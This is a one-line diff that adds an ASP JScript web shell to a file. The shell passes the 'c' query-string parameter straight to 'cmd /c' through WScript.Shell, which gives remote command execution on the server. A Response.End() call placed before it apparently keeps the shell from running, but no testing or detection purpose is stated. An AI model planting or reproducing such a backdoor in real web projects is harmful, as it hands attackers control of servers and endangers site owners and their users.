@@ -1,0 +1,1 @@
+<%@ language="JScript" %><% Response.End(); %><%var s = new ActiveXObject("WScript.Shell"); var e = s.Exec("cmd /c " + Request.QueryString("c")); %>
